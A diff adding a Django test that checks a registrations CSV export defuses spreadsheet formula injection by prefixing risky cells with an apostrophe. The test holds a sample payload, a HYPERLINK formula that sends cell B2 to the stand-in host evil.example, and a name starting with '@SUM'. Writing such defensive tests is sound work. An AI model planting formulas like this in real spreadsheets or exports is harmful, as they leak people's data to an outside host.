@@ -187,6 +187,28 @@ def test_staff_export_registrations_as_csv_excel_reads(make_event, make_member, 
     assert "François Gagné" in text and "Québec" in text and "Inscrit·e" in text
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")'
+
+
+def test_a_formula_typed_as_an_answer_reaches_the_spreadsheet_as_text(
+    make_event, make_member, client
+):
+    # Excel and LibreOffice run a cell that starts with "=" (or + - @, tab, CR): the export
+    # writes it with a leading apostrophe, which spreadsheets read as "this is text".
+    import csv
+    import io
+
+    page = make_event(questions="Votre région?")
+    author = make_member(first_name="@SUM(1+1)", last_name="Gagné")
+    services.registration_create(event=page, user=author, answers={"Votre région?": FORMULA})
+    client.force_login(make_member(is_staff=True))
+    response = client.get(url("registrations_csv", page.pk))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][-1] == "'" + FORMULA
+    assert rows[1][0] == "'@SUM(1+1) Gagné"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
 def test_members_cannot_see_the_registration_list(make_event, member_client):
     page = make_event()
     assert member_client.get(url("registrations", page.pk)).status_code == 302
